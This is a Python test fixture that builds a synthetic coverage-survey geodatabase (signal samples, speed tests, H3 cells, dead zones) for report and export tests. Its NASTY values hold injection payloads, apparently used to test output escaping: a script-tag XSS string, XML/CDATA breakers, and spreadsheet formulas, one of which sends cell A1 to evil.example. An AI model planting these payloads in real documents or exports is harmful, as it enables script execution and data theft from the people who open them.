"""A small, deterministic survey geodatabase for the report and export tests.

Until ``surveyor analyze`` exists this module also writes the analysis layers itself, following
docs/layers.md and DESIGN section 4 closely enough for rendering and exporting (it is a fixture,
not the analysis). Two operators walk one east-west path through the village centre on three
sessions (two on one day, five hours apart, one on the next): Telkomsel has no usable 4G in the
west, Indosat only 2G on a short stretch in the east.
"""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

import numpy as np
import pandas as pd

CENTRE_LAT, CENTRE_LON = -7.4370, 109.8580
VOLUNTEERS = {"T": "Budi Santoso", "I": "Siti Rahayu"}
DEVICES = {"T": "dev-budi-0001", "I": "dev-siti-0002"}
NASTY = {
    "volunteer": '<script>alert("x")</script> ]]> =HYPERLINK("http://evil.example","x")',
    "note": '=HYPERLINK("http://evil.example/?q="&A1,"click") <b>bold</b> ]]><x/> @SUM(1) -2+3',
}


def _samples(nasty: bool) -> pd.DataFrame:
    import h3

    rows = []
    starts = [datetime(2026, 7, 14, 1, 0, tzinfo=timezone.utc),   # 08:00 WIB
              datetime(2026, 7, 14, 6, 30, tzinfo=timezone.utc),  # 13:30 WIB
              datetime(2026, 7, 15, 2, 0, tzinfo=timezone.utc)]
    # 40 points, 30 m apart, 15 s apart: every sample is effective (>= 10 s and 20 m).
    dlon = 30 / (111_320 * np.cos(np.radians(CENTRE_LAT)))
    n = 40
    for s_i, t0 in enumerate(starts, 1):
        for op, name in (("T", "Telkomsel"), ("I", "Indosat")):
            session = f"{DEVICES[op]}-{s_i}"
            for i in range(n):
                lon = CENTRE_LON + (i - n / 2) * dlon
                lat = CENTRE_LAT + 0.00005 * (i % 2)
                x = (i - n / 2) / (n / 2)  # -1 west .. +1 east
                tech, service, rsrp, rssi = "LTE", "in_service", -92.0 + 3 * np.sin(i + s_i), None
                if op == "T" and x < -0.3:
                    if i % 3 == 0:
                        tech, service, rsrp = "NONE", "no_service", None
                    else:
                        rsrp = -121.0 - (i % 4)
                elif op == "T" and x >= 0.55:
                    rsrp = -109.0 + (i % 2)  # weak but usable: covered/marginal, "sinyal lemah"
                if op == "I" and x > 0.75:
                    tech, service, rsrp = "NONE", "no_service", None
                elif op == "I" and 0.3 < x < 0.5:
                    tech, rsrp, rssi = "GSM", None, -80.0
                elif op == "I":
                    rsrp = -100.0 + 2 * np.cos(i)
                t = t0 + timedelta(seconds=15 * i)
                row = {"v": 1, "time": t, "lat": lat, "lon": lon, "no_fix": False,
                       "accuracy_m": 8.0 if i % 5 else None, "environment": "outdoor", "gps": "termux",
                       "device": DEVICES[op], "device_model": "Samsung Galaxy A14" if op == "T" else "Xiaomi Redmi 10",
                       "session": session, "volunteer": VOLUNTEERS[op], "route": f"rumah {VOLUNTEERS[op]}",
                       "kind": "signal", "operator": name, "mcc": 510, "mnc": 10 if op == "T" else 1,
                       "tech": tech, "service": service, "rsrp_dbm": rsrp, "rssi_dbm": rssi,
                       "level": 0 if rsrp is None or rsrp < -115 else 3,
                       "note": None, "source_format": "journal" if op == "T" else "gnettrack",
                       "source_file": f"{VOLUNTEERS[op].split()[0].lower()}_{s_i}.jsonl", "source_line": i + 1,
                       "placed_by": "gps"}
                if i == 3 and nasty and op == "T":
                    row["note"] = NASTY["note"]
                    row["volunteer"] = NASTY["volunteer"]
                rows.append(row)
                if i % 10 == 5:  # a speed test every 10 points
                    failed = op == "T" and x < -0.3
                    rows.append({**row, "kind": "speed", "time": t + timedelta(seconds=5),
                                 "test": "failed" if failed else "ok",
                                 "download_mbps": None if failed else 12.5 + s_i,
                                 "upload_mbps": None if failed else 3.2,
                                 "latency_ms": None if failed else 48.0, "rsrp_dbm": None,
                                 "source_line": 1000 + i, "note": None})
    df = pd.DataFrame(rows)
    df["time"] = pd.to_datetime(df["time"], utc=True)
    df["h3_10"] = [h3.str_to_int(h3.latlng_to_cell(a, b, 10)) for a, b in zip(df["lat"], df["lon"])]
    df["sample_id"] = np.arange(1, len(df) + 1, dtype=np.int64) * 7919
    df["merge_id"] = df["source_file"].map({f: i for i, f in enumerate(sorted(df["source_file"].unique()), 1)})
    return df


def _cp(k: int, n: int, conf: float = 0.95) -> tuple[float, float]:
    from scipy.stats import beta

    a = 1 - conf
    lo = 0.0 if k == 0 else float(beta.ppf(a, k, n - k + 1))
    hi = 1.0 if k == n else float(beta.ppf(1 - a, k + 1, n - k))
    return lo, hi


def _analysis_layers(samples: pd.DataFrame, code: str):
    """Cells, dead zones and sites in the shape of docs/layers.md (fixture only)."""
    import geopandas as gpd
    import h3
    from shapely.geometry import Point, Polygon

    from surveyor.model import OPERATOR_CODES, negative_reasons

    sig = samples[samples["kind"] == "signal"].copy()
    sig["reason"] = negative_reasons(sig)
    cells = []
    for (cell_int, op), g in sig.groupby(["h3_10", "operator"]):
        hexid = h3.int_to_str(int(cell_int))
        n, k = len(g), int(g["reason"].notna().sum())
        lo, hi = _cp(k, n)
        sessions = g["session"].nunique()
        starts = samples[samples["session"].isin(g["session"].unique())].groupby("session")["time"].min()
        spread_h = (starts.max() - starts.min()).total_seconds() / 3600
        sp = samples[(samples["kind"] == "speed") & (samples["operator"] == op) & (samples["h3_10"] == cell_int)]
        sp_failed = int(((sp["test"] == "failed") | (sp["download_mbps"] < 5)).sum())
        if n < 5 or sessions < 2 or spread_h < 4:
            status = "insufficient"
        elif lo > 0.5:
            status = "dead"
        elif hi < 0.2:
            status = "covered"
        else:
            status = "marginal"
        rsrp = g["rsrp_dbm"].dropna()
        med = float(rsrp.median()) if len(rsrp) else None
        share_2g = float((g["reason"] == "2g3g_only").mean())
        lat, lon = h3.cell_to_latlng(hexid)
        cells.append({
            "h3": hexid, "resolution": 10, "operator": op, "area_code": code, "status": status,
            "samples_raw": n, "samples_effective": n, "negatives_effective": k, "share_negative": k / n,
            "lower_95": lo, "upper_95": hi, "share_no_service": float((g["reason"] == "no_service").mean()),
            "share_2g3g": share_2g, "sessions": sessions, "devices": g["device"].nunique(),
            "days": g["time"].dt.tz_convert("Asia/Jakarta").dt.date.nunique(),
            "first_seen": g["time"].min().strftime("%Y-%m-%dT%H:%M:%SZ"),
            "last_seen": g["time"].max().strftime("%Y-%m-%dT%H:%M:%SZ"), "time_spread_h": spread_h,
            "rsrp_p20_dbm": float(rsrp.quantile(0.2)) if len(rsrp) else None, "rsrp_median_dbm": med,
            "rsrp_p80_dbm": float(rsrp.quantile(0.8)) if len(rsrp) else None, "signal_metric": "rsrp",
            "tech_main": g["tech"].mode().iloc[0],
            "unknown_accuracy_share": float(g["accuracy_m"].isna().mean()),
            "speed_tests": len(sp), "speed_failed": sp_failed,
            "download_median_mbps": float(sp["download_mbps"].median()) if sp["download_mbps"].notna().any() else None,
            "upload_median_mbps": float(sp["upload_mbps"].median()) if sp["upload_mbps"].notna().any() else None,
            "weak_signal": bool(status in ("covered", "marginal") and ((med is not None and med < -105) or share_2g > 0.5)),
            "dusun": "Krajan" if lon < CENTRE_LON else "Sigedang", "outside_area": False,
            "needs": "3 more samples" if status == "insufficient" else None, "lat": lat, "lon": lon,
            "geometry": Polygon([(b, a) for a, b in h3.cell_to_boundary(hexid)]),
        })
    cells = gpd.GeoDataFrame(cells, crs="EPSG:4326")
    zones = []
    for op, g in cells[cells["status"] == "dead"].groupby("operator"):
        todo = set(g["h3"])
        groups = []
        while todo:
            stack, comp = [todo.pop()], set()
            while stack:
                c = stack.pop()
                comp.add(c)
                for nb in h3.grid_disk(c, 1):
                    if nb in todo:
                        todo.discard(nb)
                        stack.append(nb)
            groups.append(comp)
        parts = []
        for comp in groups:
            cg = g[g["h3"].isin(comp)]
            geom = cg.geometry.union_all()
            c = geom.centroid
            parts.append((c.y, c.x, cg, geom))
        parts.sort(key=lambda p: (p[0], p[1]))
        for i, (clat, clon, cg, geom) in enumerate(parts, 1):
            ids = samples[(samples["operator"] == op) & samples["h3_10"].isin(
                [h3.str_to_int(h) for h in cg["h3"]])]
            sig_ids = ids[ids["kind"] == "signal"]
            n, k = int(cg["samples_effective"].sum()), int(cg["negatives_effective"].sum())
            lo, hi = _cp(k, n)
            zones.append({
                "zone_id": f"DZ-{OPERATOR_CODES[op]}-{i:02d}", "operator": op, "cells": len(cg),
                "area_km2": 0.0153 * len(cg), "centroid_lat": clat, "centroid_lon": clon,
                "dusun": "Krajan", "samples_effective": n, "samples_raw": int(cg["samples_raw"].sum()),
                "negatives_effective": k, "share_negative": k / n, "lower_95": lo, "upper_95": hi,
                "share_no_service": float((negative_reasons(sig_ids) == "no_service").mean()),
                "share_2g3g": 0.0, "sessions": int(sig_ids["session"].nunique()),
                "devices": int(sig_ids["device"].nunique()), "days": 2,
                "first_seen": cg["first_seen"].min(), "last_seen": cg["last_seen"].max(),
                "rsrp_median_dbm": float(sig_ids["rsrp_dbm"].median()),
                "speed_tests": int(cg["speed_tests"].sum()), "speed_failed": int(cg["speed_failed"].sum()),
                "nearest_signal_m": 240.0, "nearest_signal_bearing_deg": 80.0,
                "nearest_signal_direction": "east", "nearest_tower_m": None,
                "nearest_tower_bearing_deg": None, "nearest_tower_direction": None, "area_code": code,
                "geometry": geom,
            })
    zones = gpd.GeoDataFrame(zones, crs="EPSG:4326", geometry="geometry")
    sites = gpd.GeoDataFrame([{
        "rank": 1, "operator": "Telkomsel", "h3": cells.iloc[0]["h3"], "lat": CENTRE_LAT,
        "lon": CENTRE_LON - 0.004, "altitude_m": 812.0, "dead_cells_served": int((cells["status"] == "dead").sum()),
        "samples_served": 120, "zone_ids": ",".join(zones["zone_id"]), "radius_m": 1500.0, "area_code": code,
        "geometry": Point(CENTRE_LON - 0.004, CENTRE_LAT)}], crs="EPSG:4326")
    return cells, zones, sites


def build_survey_db(path: str | Path, *, nasty: bool = False, analysed: bool = True,
                    settings=None):
    """Write the fixture survey to ``path`` and return the open store.

    The analysis layers come from ``surveyor.analyse.analyze`` when it is installed (so these
    tests check the real contract), else from :func:`_analysis_layers`.
    """
    from surveyor.config import Settings
    from surveyor.store import MergeRecord, open_store
    from surveyor.store._arrow import sample_table

    store = open_store(str(path), create=True)
    samples = _samples(nasty)
    for mid, part in samples.groupby("merge_id"):
        store.append("samples", sample_table(part))
        store.commit_merge(MergeRecord(int(mid), part["source_file"].iloc[0], f"hash{mid}",
                                       part["source_format"].iloc[0], "2026-07-16T00:00:00Z",
                                       {"read": len(part), "added": len(part)}))
    settings = settings or Settings()
    from surveyor.store.survey import remember

    remember(store, settings)  # as a merge does: the database knows its survey's settings
    if analysed:
        try:
            from surveyor.analyse import analyze
        except ImportError:
            analyze = None
        if analyze is not None:
            analyze(store, settings)
            return store
        cells, zones, sites = _analysis_layers(store.read_samples(), settings.code)
        store.write_layer("cells", cells)
        store.write_layer("dead_zones", zones)
        store.write_layer("sites", sites)
        store.set_meta("analysed_at", "2026-07-16T03:00:00Z")
        store.set_meta("analysis_rules", settings.rules())
        store.set_meta("analysis_summary", {"cells": len(cells), "dead_zones": len(zones)})
    return store
